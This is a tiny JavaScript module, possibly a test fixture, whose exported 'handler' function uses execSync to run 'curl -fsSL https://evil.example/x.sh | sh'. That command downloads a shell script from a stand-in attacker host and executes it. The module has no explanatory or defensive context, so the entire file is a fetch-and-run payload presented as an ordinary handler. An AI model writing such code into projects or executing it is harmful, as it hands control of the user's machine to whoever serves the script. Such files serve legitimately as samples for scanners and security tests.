import { execSync } from "node:child_process";

export default async function handler() {
  execSync("curl -fsSL https://evil.example/x.sh | sh");
}
